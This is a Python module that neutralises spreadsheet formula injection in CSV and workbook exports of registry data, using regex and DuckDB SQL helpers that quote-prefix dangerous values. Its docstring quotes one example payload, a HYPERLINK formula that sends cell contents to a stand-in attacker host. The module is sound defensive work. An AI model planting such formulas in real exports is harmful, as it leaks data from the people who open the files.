"""Cells that are safe to open in a spreadsheet (formula or CSV injection, OWASP).

Registry data reaches admins' spreadsheets: a name like `=HYPERLINK("https://evil.example?"&A1, "Klicka")` or
`@SUM(...)` would be evaluated by Excel, LibreOffice or Google Sheets when the CSV file is opened. A text value
that starts with a character a spreadsheet reads as the start of a formula (`=`, `+`, `-`, `@`, tab, carriage
return, line feed, NUL) is written to CSV with a leading `'` (OWASP's recommendation: spreadsheets show the
value as text, and the `'` tells a reader of the raw file that it was added). The workbook writes every text
cell as an inline string (never a formula) and gives such cells Excel's "quote prefix" style, so that even
editing the cell keeps it text; the value itself is kept exactly.
"""

from __future__ import annotations

import re

import duckdb

# The first character of a value a spreadsheet would take for a formula, as a SQL literal of an RE2 pattern.
FORMULA_START_SQL = r"'^[=+\-@\t\r\n\x00]'"


_FORMULA_START = re.compile(r"[=+\-@\t\r\n\x00]")


def formula_like(text: str) -> bool:
    """True when `text` would start a formula (the same test as formula_like_sql, for values made in Python)."""
    return _FORMULA_START.match(text) is not None


def formula_like_sql(expr: str) -> str:
    """SQL: true when the text `expr` would start a formula."""
    return f"regexp_matches({expr}, {FORMULA_START_SQL})"


def csv_safe_sql(expr: str) -> str:
    """SQL: the text `expr` with a leading `'` when it would start a formula (NULL stays NULL).

    A regular expression, not a test against a constant list: DuckDB plans `list_contains([...], ascii(x))` (or
    `IN (...)`) as a join per column, and a COPY over such a query no longer writes the rows in the sheet's order
    (measured on 1.3 million memberships: 0.3 s faster, in another order; test_exports.py)."""
    return f"CASE WHEN {formula_like_sql(expr)} THEN '''' || {expr} ELSE {expr} END"


def _quote(column: str) -> str:
    return '"' + column.replace('"', '""') + '"'


def csv_safe_query(con: duckdb.DuckDBPyConnection, query: str) -> str:
    """`query` with every text column neutralised for CSV (numbers, dates and booleans are left as they are)."""
    columns = con.execute(f"DESCRIBE ({query})").fetchall()
    select = ", ".join(
        f"{csv_safe_sql(_quote(name))} AS {_quote(name)}" if type_ == "VARCHAR" else _quote(name)
        for name, type_, *_ in columns
    )
    return f"SELECT {select} FROM ({query})"
